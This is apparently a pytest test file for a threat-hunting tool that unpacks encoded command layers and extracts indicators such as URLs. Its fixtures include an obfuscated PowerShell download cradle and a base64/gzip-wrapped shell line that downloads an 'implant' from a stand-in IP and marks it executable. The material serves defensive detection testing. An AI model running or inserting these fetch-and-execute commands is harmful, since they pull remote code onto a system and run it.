"""The indicators inside decoded layers (needs huntbook.analysis.iocs)."""

from __future__ import annotations

import base64
import gzip

import pytest

from huntbook.analysis.decode import unpack

pytest.importorskip("huntbook.analysis.iocs")

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://contoso-sync.net/s/upd.ps1')"


def test_a_layer_lists_the_indicators_in_its_text():
    encoded = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    root = unpack(f"powershell.exe -nop -w hidden -enc {encoded}")
    (layer,) = root.layers()
    urls = layer.iocs[layer.iocs.type == "url"]
    assert urls.observable.tolist() == ["http://contoso-sync.net/s/upd.ps1"]
    start, end = urls.iloc[0][["start", "end"]]
    assert layer.text[start:end] == "http://contoso-sync.net/s/upd.ps1"
    assert root.iocs[root.iocs.type == "url"].empty


def test_indicators_deep_inside_are_found_in_their_own_layer():
    inner = base64.b64encode(b"curl -o /tmp/x http://203.0.113.66/implant && chmod +x /tmp/x").decode()
    root = unpack(base64.b64encode(gzip.compress(f"sh -c 'echo {inner} | base64 -d | sh'".encode())).decode())
    deepest = list(root.layers())[-1]
    assert deepest.chain == ("base64", "gzip", "base64")
    assert "http://203.0.113.66/implant" in set(deepest.iocs.observable)
